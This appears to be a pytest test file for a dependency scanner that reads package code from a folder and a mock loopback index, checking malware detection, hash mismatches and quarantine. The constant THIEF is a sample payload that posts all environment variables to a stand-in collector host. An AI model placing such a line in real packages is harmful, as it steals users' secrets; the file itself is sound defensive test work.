"""A scan that reads the code of the packages: from a folder, and from an index on the loopback address."""

from __future__ import annotations

import hashlib
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.e2e.conftest import Installed
from tests.unit.artifacts.builders import Files, tar_of, zip_of

THIEF = "import os\nimport requests\nrequests.post('https://collector.invalid/in', json=dict(os.environ))\n"
CALM = "def main():\n    return 1\n"


def wheel(name: str, source: str = CALM) -> bytes:
    files: Files = {
        f"{name}/__init__.py": source,
        f"{name}-1.0.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{name}-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\n",
        f"{name}-1.0.dist-info/RECORD": "",
    }
    return zip_of(files)


def sdist(name: str, source: str = CALM) -> bytes:
    files: Files = {
        f"{name}-1.0/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{name}-1.0/setup.py": "from setuptools import setup\nsetup()\n",
        f"{name}-1.0/{name}/__init__.py": source,
    }
    return tar_of(files)


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def lock(depscan: Installed, index: str = "https://index.example/simple", **files: dict[str, bytes]) -> str:
    """Write a uv.lock in which the project asks for ``outer``, and that for ``inner``."""
    rows = ['version = 1\n[[package]]\nname = "app"\nversion = "1"\nsource = { virtual = "." }\n']
    rows.append('dependencies = [{ name = "outer" }]\n')
    for name, held in files.items():
        rows.append(f'[[package]]\nname = "{name}"\nversion = "1.0"\nsource = {{ registry = "{index}" }}\n')
        rows.append('dependencies = [{ name = "inner" }]\n' if name == "outer" else "")
        listed = ", ".join(
            f'{{ url = "https://files.example/{file}", hash = "sha256:{sha256(data)}" }}' for file, data in held.items()
        )
        rows.append(f"wheels = [{listed}]\n" if listed else "")
    (depscan.cwd / "uv.lock").write_text("".join(rows), "utf-8")
    return "uv.lock"


def shelve(depscan: Installed, **files: dict[str, bytes]) -> str:
    (depscan.cwd / "shelf").mkdir()
    for held in files.values():
        for name, data in held.items():
            (depscan.cwd / "shelf" / name).write_bytes(data)
    return "shelf"


def report(run: Any) -> dict[str, Any]:
    made: dict[str, Any] = json.loads(run.out)
    return made


OUTER = {"outer-1.0-py3-none-any.whl": wheel("outer")}
POISONED = {"inner-1.0-py3-none-any.whl": wheel("inner", THIEF)}


def test_malicious_code_in_a_folder_blocks_with_its_path_in_the_graph(depscan: Installed) -> None:
    words = (lock(depscan, outer=OUTER, inner=POISONED), "--find-links", shelve(depscan, outer=OUTER, inner=POISONED))
    run = depscan(*words)
    assert run.code == 1
    assert "malicious package" in run.out
    assert "why: app 1 -> outer 1.0 -> inner 1.0" in run.out
    assert depscan(*words).out == run.out, "the second run says the same"
    assert depscan(*words, "--no-inspect").code == 0
    assert depscan("uv.lock").code == 0
    found = report(depscan(*words, "--format", "json"))["findings"]
    assert {f["subject"] for f in found} == {"pkg:pypi/inner@1.0"}


def test_a_swapped_wheel_blocks_and_is_not_read(depscan: Installed) -> None:
    calm = {"inner-1.0-py3-none-any.whl": wheel("inner")}
    run = depscan(lock(depscan, outer=OUTER, inner=calm), "--find-links", shelve(depscan, outer=OUTER, inner=POISONED))
    assert run.code == 1
    assert "integrity/local-file-differs" in run.out
    assert "malicious" not in run.out
    assert "inner 1.0: code not looked at" in run.out


def test_a_payload_only_in_the_sdist_shows_with_the_whole_release(depscan: Installed) -> None:
    held = {"inner-1.0-py3-none-any.whl": wheel("inner"), "inner-1.0.tar.gz": sdist("inner", THIEF)}
    words = (lock(depscan, outer=OUTER, inner=held), "--find-links", shelve(depscan, outer=OUTER, inner=held))
    assert depscan(*words).code == 0
    run = depscan(*words, "--whole-release")
    assert run.code == 1
    assert "integrity/release-differs" in run.out


def test_a_package_without_an_archive_is_said_and_needed_when_the_policy_says_so(depscan: Installed) -> None:
    words = (lock(depscan, outer=OUTER, inner=POISONED), "--find-links", shelve(depscan, outer=OUTER))
    run = depscan(*words)
    assert (run.code, "inner 1.0: code not looked at: no archive" in run.out) == (0, True)
    (depscan.cwd / "depscan.toml").write_text("[inspect]\nneeded = true\n", "utf-8")
    assert [depscan(*words).code, depscan("uv.lock").code, depscan("uv.lock", "--no-inspect").code] == [4, 4, 4]


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", wheel("inner")[:-40]])
def test_a_broken_archive_is_incomplete(depscan: Installed, data: bytes) -> None:
    (depscan.cwd / "pins.txt").write_text("inner==1.0\n", "utf-8")
    held = {"inner-1.0-py3-none-any.whl": data}
    assert depscan("pins.txt", "--find-links", shelve(depscan, inner=held)).code == 4


def test_a_folder_that_is_not_there_is_bad_usage(depscan: Installed) -> None:
    run = depscan("clean.txt", "--find-links", "nowhere")
    assert (run.code, "nowhere" in run.err) == (2, True)


class Serving:
    """An index with its files; ``broken`` names paths that fail."""

    def __init__(self) -> None:
        self.held: dict[str, dict[str, bytes]] = {}
        self.more: dict[str, dict[str, Any]] = {}
        self.broken: set[str] = set()
        self.asked: list[str] = []
        self.sent = 0
        self.url = ""

    def answer(self, path: str) -> tuple[int, str, bytes]:
        """Return status, type and body."""
        self.asked.append(path)
        name = path.strip("/").rpartition("/")[2]
        if name in self.broken:
            return 500, "text/plain", b""
        if path.startswith("/files/"):
            return 200, "application/octet-stream", next(h[name] for h in self.held.values() if name in h)
        if not path.startswith("/simple/"):
            return 200, "application/json", b"{}"
        if name not in self.held:
            return 404, "text/plain", b""
        files = [
            {"filename": f, "url": f"{self.url}/files/{f}", "hashes": {"sha256": sha256(d)}, "size": len(d)}
            for f, d in self.held[name].items()
        ]
        page = {"meta": {"api-version": "1.4"}, "name": name, "files": files, "versions": ["1.0"]}
        kind = "application/vnd.pypi.simple.v1+json"
        return 200, kind, json.dumps({**page, **self.more.get(name, {})}).encode()


@pytest.fixture
def index() -> Iterator[Serving]:
    held = Serving()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            status, kind, body = held.answer(self.path)
            asked, total = self.headers.get("Range"), len(body)
            if asked and status == 200:
                start, _, end = asked.removeprefix("bytes=").partition("-")
                first = int(start) if start else max(total - int(end), 0)
                last = min(int(end), total - 1) if start and end else total - 1
                status, body = 206, body[first : last + 1]
            self.send_response(status)
            if status == 206:
                self.send_header("Content-Range", f"bytes {first}-{last}/{total}")
            held.sent += len(body)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["Content-Length"]))
            self.do_GET()

        def log_message(self, *_: object) -> None:
            """Stay silent."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.01,))
    thread.start()
    held.url = f"http://127.0.0.1:{server.server_port}"
    yield held
    server.shutdown()
    thread.join()
    server.server_close()


def online(depscan: Installed, index: Serving, *words: str) -> Any:
    pytest.importorskip("pip_audit")
    osv, simple = f"{index.url}/osv", f"{index.url}/simple"
    return depscan(*words, "--online", DEPSCAN_OSV_API=osv, PIP_INDEX_URL=simple)


def test_online_the_index_gives_what_is_not_at_hand_once(depscan: Installed, index: Serving) -> None:
    index.held = {"outer": OUTER, "inner": POISONED}
    words = (lock(depscan, f"{index.url}/simple", outer=OUTER, inner=POISONED),)
    run = online(depscan, index, *words)
    assert (run.code, "malicious package" in run.out) == (1, True)
    assert "why: app 1 -> outer 1.0 -> inner 1.0" in run.out
    assert sorted(p for p in index.asked if p.startswith("/files/")) == [f"/files/{f}" for f in (*POISONED, *OUTER)]
    index.asked.clear()
    assert online(depscan, index, *words).out == run.out
    assert not [p for p in index.asked if p.startswith("/files/")]


def test_online_pins_without_hashes_are_read_too(depscan: Installed, index: Serving) -> None:
    index.held = {"inner": POISONED}
    (depscan.cwd / "pins.txt").write_text("inner==1.0\n", "utf-8")
    run = online(depscan, index, "pins.txt")
    assert (run.code, "malicious package" in run.out) == (1, True)


@pytest.mark.parametrize("broken", ["inner", "inner-1.0-py3-none-any.whl"])
def test_an_outage_of_the_index_is_incomplete(depscan: Installed, index: Serving, broken: str) -> None:
    index.held = {"outer": OUTER, "inner": {"inner-1.0-py3-none-any.whl": wheel("inner")}}
    index.broken = {broken}
    run = online(depscan, index, lock(depscan, f"{index.url}/simple", **index.held))
    assert run.code == 4, run
    assert "the index: " in run.out


def test_a_file_that_the_index_swapped_blocks(depscan: Installed, index: Serving) -> None:
    calm = {"inner-1.0-py3-none-any.whl": wheel("inner")}
    index.held = {"outer": OUTER, "inner": POISONED}
    run = online(depscan, index, lock(depscan, f"{index.url}/simple", outer=OUTER, inner=calm))
    assert (run.code, run.out.count("integrity/index-hash-differs")) == (1, 1)


def test_the_index_says_what_is_quarantined_and_what_nobody_has_registered(depscan: Installed, index: Serving) -> None:
    index.held = {"inner": {"inner-1.0-py3-none-any.whl": wheel("inner")}}
    index.more = {"inner": {"project-status": {"status": "quarantined", "reason": "malware"}}}
    (depscan.cwd / "pins.txt").write_text("inner==1.0\nzqvxk-nobody==1.0\n", "utf-8")
    run = online(depscan, index, "pins.txt")
    assert "the index has inner in quarantine: malware" in run.out
    assert "name/unclaimed" in run.out


def test_offline_nobody_is_asked(depscan: Installed, index: Serving) -> None:
    index.held = {"outer": OUTER, "inner": POISONED}
    words = (lock(depscan, f"{index.url}/simple", outer=OUTER, inner=POISONED), "--offline")
    run = depscan(*words, "--find-links", shelve(depscan, outer=OUTER), PIP_INDEX_URL=f"{index.url}/simple")
    assert (run.code, index.asked) == (0, [])


def test_a_large_wheel_without_a_locked_hash_is_read_in_part_and_that_is_said_again(
    depscan: Installed, index: Serving
) -> None:
    big = {"inner-1.0-py3-none-any.whl": large("inner", THIEF)}
    index.held = {"inner": big}
    (depscan.cwd / "pins.txt").write_text("inner==1.0\n", "utf-8")
    run = online(depscan, index, "pins.txt")
    assert (run.code, "malicious package" in run.out) == (1, True)
    assert "read by range" in run.out
    assert index.sent < 1 << 20
    index.asked.clear()
    assert online(depscan, index, "pins.txt").out == run.out
    assert not [p for p in index.asked if p.startswith("/files/")]
    locked = online(depscan, index, lock(depscan, f"{index.url}/simple", inner=big))
    assert (locked.code, "read by range" in locked.out) == (1, False)
    assert index.sent > 17 << 20


def large(name: str, source: str) -> bytes:
    """Return a wheel with 17 MiB of data in it."""
    files: Files = {
        f"{name}/__init__.py": source,
        f"{name}/weights.bin": bytes(17 << 20),
        f"{name}-1.0.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{name}-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\n",
        f"{name}-1.0.dist-info/RECORD": "",
    }
    return zip_of(files, stored=True)
